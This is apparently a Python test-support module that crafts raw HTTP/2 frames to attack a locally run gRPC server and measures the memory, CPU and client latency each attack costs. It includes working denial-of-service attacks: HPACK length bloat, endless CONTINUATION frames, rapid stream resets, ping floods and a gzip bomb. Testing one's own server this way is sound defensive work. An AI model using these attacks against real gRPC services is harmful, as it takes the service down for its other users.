"""Attacks on the gRPC port, frame by frame, and what they cost: memory, processor time, another client's waiting.

grpc_attack_test.py runs them small and states what must hold; grpc_attack_table.py runs them at full size and prints the table of docs/grpc.md.
"""
import os
import resource
import socket
import struct
import threading
import time

import grpc

import server

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4
PREDICT = "/tensorflow.serving.PredictionService/Predict"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field for HPACK: literal, not indexed, no Huffman; both shorter than 127 bytes."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def call_headers(path=PREDICT, *more):
    fields = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc"), *more)
    return b"".join(literal(n, v) for n, v in fields)


class Peer:
    """One connection that has shaken hands and reads, on a thread of its own, what comes."""

    def __init__(self, port, reads=True, address="127.0.0.2"):
        self.s = socket.create_connection(("127.0.0.1", port), source_address=(address, 0))
        self.s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        self.open, self.got = True, b""
        self.reader = threading.Thread(target=self.read, daemon=True)
        if reads:
            self.reader.start()

    def read(self):
        try:
            while data := self.s.recv(1 << 16):
                self.got = (self.got + data)[-(1 << 20):]
        except OSError:
            pass
        self.open = False

    def send(self, data):
        """False when the server has hung up, or takes nothing for 10 s."""
        try:
            self.s.settimeout(10)
            self.s.sendall(data)
            return True
        except OSError:
            return False

    def sends(self, chunks):
        """How many bytes left before the server hung up."""
        n = 0
        for c in chunks:
            if not self.send(c):
                break
            n += len(c)
        return n

    def close(self):
        try:
            self.s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.s.close()


# ---- the attacks: each takes the server's port and a size, and leaves nothing open

def hpack_integer(port, n_bytes):
    """The index of a header field, in n_bytes of continuation bytes that add nothing."""
    p = Peer(port)
    block = b"\x7f" + b"\x80" * 16000
    p.sends([frame(HEADERS, 0, 1, block)] + [frame(CONTINUATION, 0, 1, b"\x80" * 16000)] * (n_bytes // 16000))
    p.send(frame(PING, 0, 0, b"12345678"))
    p.close()


def header_string(port, n_bytes):
    """A value whose length says n_bytes, and its bytes."""
    p = Peer(port)
    length, digits = n_bytes - 127, b""
    while length > 127:
        digits += bytes((length & 127 | 128,))
        length >>= 7
    start = call_headers() + b"\0\x01x\x7f" + digits + bytes((length,))
    p.sends([frame(HEADERS, 0, 1, start)] + [frame(CONTINUATION, 0, 1, b"a" * 16384)] * (n_bytes // 16384))
    p.close()


def continuations(port, n):
    """A header block of n frames with a small field each, that never ends."""
    p = Peer(port)
    p.sends([frame(HEADERS, 0, 1, call_headers())] + [frame(CONTINUATION, 0, 1, literal("a", "b")) * 100] * (n // 100))
    p.close()


def rapid_resets(port, n):
    """Calls that are begun and reset at once."""
    p = Peer(port)
    head = call_headers()
    p.sends(b"".join(frame(HEADERS, END_HEADERS, i, head) + frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in range(k, k + 200, 2)) for k in range(1, 2 * n, 200))
    time.sleep(1)
    p.close()


def open_streams(port, n):
    """Calls that are begun and say nothing more."""
    p = Peer(port)
    head = call_headers()
    p.sends(b"".join(frame(HEADERS, END_HEADERS, i, head) for i in range(k, k + 200, 2)) for k in range(1, 2 * n, 200))
    time.sleep(1)
    p.close()


def silent_calls(port, n, address="127.0.0.2", path=PREDICT, of_one=1000, confirms=False):
    """Calls that are begun and say nothing more, on as many connections as they need; with confirms after saying that
    the server's settings are known. Returns these, open."""
    peers = []
    for k in range(0, n, of_one):
        p = Peer(port, address=address)
        if confirms:
            server.until(lambda: p.got)  # what comes first are the server's settings; none are in force that it has not sent yet
            p.send(frame(SETTINGS, 1, 0))
        p.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, call_headers(path)) for i in range(min(of_one, n - k))))
        peers.append(p)
    return peers


def streams_of_many(port, n):
    peers = silent_calls(port, n)
    time.sleep(2)
    for p in peers:
        p.close()


def pings(port, n):
    """Pings and settings whose answers are not read."""
    p = Peer(port, reads=False)
    p.sends([(frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 100] * (n // 200))
    p.close()


def gzip_message(port, n_bytes):
    """A compressed message that holds n_bytes of zeros and is a thousandth of that; returns what the client is told."""
    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    try:
        channel.unary_unary(PREDICT, request_serializer=None, response_deserializer=None)(bytes(n_bytes), 120, compression=grpc.Compression.Gzip)
        return None
    except grpc.RpcError as e:
        return e
    finally:
        channel.close()


def vanishing(port, n):
    """Connections that are reset as soon as they are there."""
    for _ in range(n):
        s = socket.create_connection(("127.0.0.1", port))
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()


# ---- what they cost

def cpu_s(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Other:
    """A client that asks for the server's health all the time, and how long it had to wait at most."""

    def __init__(self, port):
        self.channel = grpc.insecure_channel(f"127.0.0.1:{port}", [("grpc.use_local_subchannel_pool", 1)])
        self.check = self.channel.unary_unary("/grpc.health.v1.Health/Check", request_serializer=None, response_deserializer=None)
        self.check(b"", 30)
        self.worst_s, self.failed, self.over = 0.0, 0, False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.over:
            t = time.monotonic()
            try:
                self.check(b"", 60)
            except grpc.RpcError:
                self.failed += 1
            self.worst_s = max(self.worst_s, time.monotonic() - t)
            time.sleep(0.005)

    def stop(self):
        self.over = True
        self.thread.join(70)
        self.channel.close()


class Cost:
    """with Cost(pid, port) as c: an attack. Then c.peak_mb (above before), c.cpu_s, c.worst_s, c.failed, c.seconds."""

    def __init__(self, pid, port):
        self.pid, self.port = pid, port

    def __enter__(self):
        self.other = Other(self.port)
        server.forget_peak(self.pid)
        self.rss, self.cpu, self.began = server.held(self.pid, "VmRSS"), cpu_s(self.pid), time.monotonic()
        return self

    def __exit__(self, *_):
        self.seconds = time.monotonic() - self.began
        self.other.stop()
        self.worst_s, self.failed = self.other.worst_s, self.other.failed
        self.cpu_s = cpu_s(self.pid) - self.cpu
        self.peak_mb = (server.held(self.pid) - self.rss) / (1 << 20)


def limit_files(pid, n):
    """The soft limit on open files of a running process; returns the one before."""
    before = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (n, before[1]))
    return before[0]
